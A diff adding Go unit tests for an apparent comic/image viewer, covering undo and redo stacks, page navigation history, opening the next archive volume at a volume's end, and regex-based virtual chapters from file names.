+		t.Fatalf("a new jump kept %d redo steps", len(g.redoStack))
+	}
+	g.redo()
+	if g.overlayMessage != "Nothing to redo" {
+		t.Fatalf("overlay %q", g.overlayMessage)
+	}
+}
+
+func TestPureUndoKeepsDeletesFailedStepsAndSkipsAutomaticJumps(t *testing.T) {
+	var paths []ImagePath
+	var images []DisplayImage
+	for i := range 5 {
+		paths = append(paths, ImagePath{Path: fmt.Sprintf("/p/%d.png", i+1)})
+		images = append(images, testDisplayImage(4, 4))
+	}
+	g := &Game{
+		imageManager: &stubImageManager{paths: paths, images: images},
+		zoomState:    NewZoomState(),
+	}
+	g.calculateDisplayContent()
+
+	noop := func() error { return nil }
+	g.pushPinnedUndo("delete 1.png", noop, noop)
+	for i := range maxUndoEntries + 10 {
+		g.pushUndo(fmt.Sprintf("jump %d", i), noop, noop)
+	}
+	if len(g.undoStack) != maxUndoEntries || g.undoStack[0].label != "delete 1.png" {
+		t.Fatalf("undo stack has %d entries starting with %q; the delete must survive the cap", len(g.undoStack), g.undoStack[0].label)
+	}
+
+	failing := errors.New("file changed")
+	g.pushUndo("rename", func() error { return failing }, noop)
+	g.undo()
+	if top := g.undoStack[len(g.undoStack)-1]; top.label != "rename" || len(g.redoStack) != 0 {
+		t.Fatalf("failed undo moved the step: top %q, redo %d", top.label, len(g.redoStack))
+	}
+
+	g.undoStack = nil
+	g.jumpToPageAutomatically(4)
+	g.scriptJumpToPage(2)
+	if g.idx != 1 || len(g.undoStack) != 0 || len(g.navHistory.pages) != 0 {
+		t.Fatalf("automatic jumps recorded: idx %d, undo %d, history %v", g.idx, len(g.undoStack), g.navHistory.pages)
+	}
+	g.jumpToPage(5)
+	if len(g.undoStack) != 1 {
+		t.Fatalf("reader jump not recorded: undo %d", len(g.undoStack))
+	}
+}
+
+func TestPureNavHistoryBackAndForward(t *testing.T) {
+	var paths []ImagePath
+	var images []DisplayImage
+	for i := range 10 {
+		paths = append(paths, ImagePath{Path: fmt.Sprintf("/p/%02d.png", i+1)})
+		images = append(images, testDisplayImage(4, 4))
+	}
+	g := &Game{
+		imageManager: &stubImageManager{paths: paths, images: images},
+		zoomState:    NewZoomState(),
+		idx:          5,
+	}
+	g.calculateDisplayContent()
+
+	globalActionExecutor.ExecuteAction("jump_first", g, g)
+	globalActionExecutor.ExecuteAction("history_back", g, g)
+	if g.idx != 5 {
+		t.Fatalf("back after jump_first: idx = %d, want 5", g.idx)
+	}
+	globalActionExecutor.ExecuteAction("history_forward", g, g)
+	if g.idx != 0 {
+		t.Fatalf("forward: idx = %d, want 0", g.idx)
+	}
+
+	// Pages turned after a jump move the current entry along
+	g.navigateNext(true)
+	g.navigateNext(true)
+	g.historyBack()
+	if g.idx != 5 {
+		t.Fatalf("back after reading on: idx = %d, want 5", g.idx)
+	}
+	g.historyForward()
+	if g.idx != 2 {
+		t.Fatalf("forward returns to the page read up to: idx = %d, want 2", g.idx)
+	}
+	g.historyForward()
+	if g.overlayMessage != "No later page in history" {
+		t.Fatalf("overlay %q", g.overlayMessage)
+	}
+
+	// A new jump drops the pages ahead
+	g.historyBack()
+	g.jumpToPage(9)
+	g.historyForward()
+	if g.idx != 8 || g.overlayMessage != "No later page in history" {
+		t.Fatalf("idx = %d, overlay %q", g.idx, g.overlayMessage)
+	}
+	g.historyBack()
+	g.historyBack()
+	if g.idx != 5 || g.overlayMessage != "No earlier page in history" {
+		t.Fatalf("idx = %d, overlay %q", g.idx, g.overlayMessage)
+	}
+}
+
+func TestPureVolumeEndOffersAndOpensNextArchive(t *testing.T) {
+	dir := t.TempDir()
+	var page bytes.Buffer
+	if err := png.Encode(&page, image.NewGray(image.Rect(0, 0, 4, 4))); err != nil {
+		t.Fatal(err)
+	}
+	for _, name := range []string{"vol1.cbz", "vol2.cbz", "vol10.cbz"} {
+		writeTestZip(t, filepath.Join(dir, name), map[string][]byte{"01.png": page.Bytes()})
+	}
+	if err := os.WriteFile(filepath.Join(dir, "notes.txt"), nil, 0644); err != nil {
+		t.Fatal(err)
+	}
+	if got, want := nextVolumePath(filepath.Join(dir, "vol2.cbz")), filepath.Join(dir, "vol10.cbz"); got != want {
+		t.Fatalf("next after vol2 = %q, want %q", got, want)
+	}
+	if got := nextVolumePath(filepath.Join(dir, "vol10.cbz")); got != "" {
+		t.Fatalf("next after the last volume = %q", got)
+	}
+
+	vol1 := filepath.Join(dir, "vol1.cbz")
+	paths := []ImagePath{
+		{Path: vol1 + ":01.png", ArchivePath: vol1, EntryPath: "01.png"},
+		{Path: vol1 + ":02.png", ArchivePath: vol1, EntryPath: "02.png"},
+	}
+	images := []DisplayImage{testDisplayImage(4, 4), testDisplayImage(4, 4)}
+	g := &Game{
+		imageManager: &stubImageManager{paths: paths, images: images},
+		zoomState:    NewZoomState(),
+		config:       Config{VolumeEnd: volumeEndStop},
+		idx:          1,
+	}
+	g.calculateDisplayContent()
+	g.navigateNext(false)
+	if g.volumeEnd != nil || g.overlayMessage != "Last page" {
+		t.Fatalf("stop: interstitial %v, overlay %q", g.volumeEnd, g.overlayMessage)
+	}
+
+	g.config.VolumeEnd = volumeEndOffer
+	g.navigateNext(false)
+	want := []string{"vol1.cbz", "2 pages", "Next: vol2.cbz (next page key to open)"}
+	if got := g.GetVolumeEnd(); !slices.Equal(got, want) {
+		t.Fatalf("lines = %q, want %q", got, want)
+	}
+	g.navigatePrevious(false)
+	if g.updateVolumeEnd(time.Now()); g.volumeEnd != nil {
+		t.Fatal("going back kept the interstitial")
+	}
+
+	g.navigateNext(false)
+	g.navigateNext(false)
+	g.navigateNext(false)
+	if p, _ := g.imageManager.GetPath(0); p.ArchivePath != filepath.Join(dir, "vol2.cbz") || g.volumeEnd != nil {
+		t.Fatalf("opened %v, interstitial %v", p, g.volumeEnd)
+	}
+
+	g.config.VolumeEnd = volumeEndAuto
+	g.navigateNext(false)
+	shown := g.volumeEnd.since
+	if g.updateVolumeEnd(shown.Add(time.Second)) {
+		t.Fatal("auto opened before the delay")
+	}
+	if !g.updateVolumeEnd(shown.Add(volumeEndAutoDelay)) {
+		t.Fatal("auto did not open the next volume")
+	}
+	if p, _ := g.imageManager.GetPath(0); p.ArchivePath != filepath.Join(dir, "vol10.cbz") {
+		t.Fatalf("auto opened %v", p)
+	}
+}
+
+func TestPureVirtualChaptersFromFileNames(t *testing.T) {
+	if loadConfigFromPath(filepath.Join(t.TempDir(), "none.json")).Config.ChapterPattern != "" {
+		t.Fatal("chapter_pattern is not opt-in")
+	}
+	if virtualChapter(ImagePath{Path: "/p/c012_p001.jpg"}) != "" {
+		t.Fatal("chapters found without a chapter_pattern")
+	}
+	setChapterPattern(suggestedChapterPattern)
+	t.Cleanup(func() { chapterPattern.Store(nil) })
+
+	for name, want := range map[string]string{
+		"c012_p001.jpg":        "12",
+		"ch5-03.png":           "5",
+		"Chapter 12 - 004.jpg": "12",
+		"vol1_c000_p01.png":    "0",
+		"cover.png":            "",
+		"scan0012.png":         "",
+		"012.png":              "",
+		"img2c5.png":           "",
+		"v01 ch3.png":          "3",
+	} {
+		if got := virtualChapter(ImagePath{Path: "/p/" + name}); got != want {
+			t.Errorf("virtualChapter(%q) = %q, want %q", name, got, want)
+		}
+	}
+
+	var paths []ImagePath
+	for _, entry := range []string{"cover.png", "c001_p01.png", "c001_p02.png", "c002_p01.png", "c010_p01.png", "c010_p02.png"} {
+		paths = append(paths, ImagePath{Path: "big.zip:" + entry, ArchivePath: "big.zip", EntryPath: entry})
+	}
+	images := make([]DisplayImage, len(paths))
+	for i := range images {
+		images[i] = testDisplayImage(4, 4)
+	}
+	g := &Game{
+		imageManager: &stubImageManager{paths: paths, images: images},
+		zoomState:    NewZoomState(),
+	}
+	var visited []int
+	for range 3 {
+		g.jumpToNextChapter()
+		visited = append(visited, g.idx)
+	}
+	if !slices.Equal(visited, []int{1, 3, 4}) || g.overlayMessage != "Chapter 10" {
+		t.Fatalf("next chapter indices = %v, overlay %q", visited, g.overlayMessage)
+	}
+	if g.displayContent.Metadata.Chapter != "Chapter 10" {
+		t.Fatalf("chapter metadata %q", g.displayContent.Metadata.Chapter)
+	}
+
+	chapters := listChapters(paths)
+	want := []chapterEntry{{0, 1, "big.zip"}, {1, 2, "Chapter 1"}, {3, 1, "Chapter 2"}, {4, 2, "Chapter 10"}}
+	if !slices.Equal(chapters, want) {
+		t.Fatalf("chapters = %+v, want %+v", chapters, want)
+	}
+	results, sel := chapterListResults(chapters, 4, "", 2)
+	if len(results) != 2 || results[sel].Index != 4 || results[sel].Name != "p.5  Chapter 10 (2 pages)" {
+		t.Fatalf("window = %+v, selection %d", results, sel)
+	}
+	globalActionExecutor.ExecuteAction("chapter_list", g, g)
+	g.updateTextPromptBuffer("chapter 2")
+	g.submitTextPrompt()
+	if g.idx != 3 {
+		t.Fatalf("chapter list jump: idx = %d, want 3", g.idx)
+	}
+
+	setChapterPattern("")
+	if virtualChapter(paths[1]) != "" || len(listChapters(paths)) != 1 {
+		t.Fatal("an empty chapter_pattern still found chapters")
+	}
+	if validChapterPattern("c(") == nil || validChapterPattern(`c\d+`) == nil || validChapterPattern(`p(\d+)`) != nil {
+		t.Fatal("chapter_pattern validation")
+	}
+}